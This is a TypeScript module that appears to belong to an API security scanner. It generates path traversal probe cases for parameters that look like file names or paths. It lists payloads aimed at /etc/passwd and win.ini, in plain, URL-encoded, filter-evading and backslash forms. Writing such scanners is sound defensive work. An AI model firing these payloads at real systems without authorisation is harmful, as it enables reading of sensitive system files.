// Path traversal probes on inputs that look like file names or paths: `../` and its encoded forms toward
// files whose content is recognizable (/etc/passwd, win.ini).
import { emptyPlan, probeId, type FamilyInput, type FamilyPlan } from '../family.js';
import { probeCase } from '../inject.js';
import type { InjectionTarget } from '../targets.js';

const CHECK = 'path_traversal';
const FILE_FIELD = /(file|path|dir|folder|doc|document|template|page|include|download|attachment|image|img|lang|locale|resource|report|log|asset|name)/i;
const FILE_ROUTE = /(file|download|document|attachment|static|asset|report|export|template|image|upload)/i;

export const TRAVERSAL_PAYLOADS: { payload: string; description: string }[] = [
  { payload: '../../../../../../../../etc/passwd', description: 'Traversal to /etc/passwd' },
  { payload: '..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd', description: 'URL-encoded traversal to /etc/passwd' },
  { payload: '....//....//....//....//....//....//etc/passwd', description: 'Filter-evading traversal to /etc/passwd' },
  { payload: '/etc/passwd', description: 'Absolute path /etc/passwd' },
  { payload: '..\\..\\..\\..\\..\\..\\windows\\win.ini', description: 'Backslash traversal to win.ini' },
  { payload: '../../../../../../windows/win.ini', description: 'Traversal to win.ini' },
];

export function looksLikeFileInput(target: InjectionTarget, path: string): boolean {
  return typeof target.base === 'string' && (FILE_FIELD.test(target.field) || (target.location === 'path' && FILE_ROUTE.test(path)));
}

export function planPathTraversal(input: FamilyInput): FamilyPlan {
  const plan = emptyPlan();
  for (const target of input.targets.filter((t) => looksLikeFileInput(t, input.operation.path))) {
    TRAVERSAL_PAYLOADS.forEach(({ payload, description }, i) => {
      const spec = { family: CHECK, probe: 'file', payload, description };
      plan.cases.push(probeCase(probeId(CHECK, input, target, i), input.operation, input.request, target, spec, CHECK));
    });
  }
  return plan;
}
